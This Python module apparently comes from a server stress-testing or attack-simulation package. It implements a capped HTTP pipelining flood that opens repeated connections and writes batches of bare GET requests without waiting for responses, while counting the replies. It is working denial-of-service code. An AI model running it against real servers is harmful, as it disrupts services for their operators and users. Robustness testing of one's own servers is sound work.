"""The shortest requests there are, one behind the other, without waiting for an answer."""

import asyncio

from attacks.target import Target, Until, Wire, at_most

REQUEST = b"GET / HTTP/1.1\r\n\r\n"
AT_ONCE = 500  # requests in one write
MOST = 1_000_000  # requests of one attack: 18 MB


async def attack(target: Target, seconds: float) -> None:
    """One connection after another: the next one as soon as the server hangs up."""
    until = Until(seconds)
    while until and target.got["sent"] < MOST:
        wire = await target.connect()
        if wire is None:
            await asyncio.sleep(0.1)
            continue
        target.got["connections"] += 1
        reading = asyncio.create_task(wire.count_answers(target.got))
        sending = asyncio.create_task(_send(target, wire, until))
        await at_most(until.left, reading)  # it ends when the server hangs up
        sending.cancel()
        await asyncio.wait({sending})
        await wire.hang_up()


async def _send(target: Target, wire: Wire, until: Until) -> None:
    while until and target.got["sent"] < MOST and await wire.send(REQUEST * AT_ONCE):
        target.got["sent"] += AT_ONCE
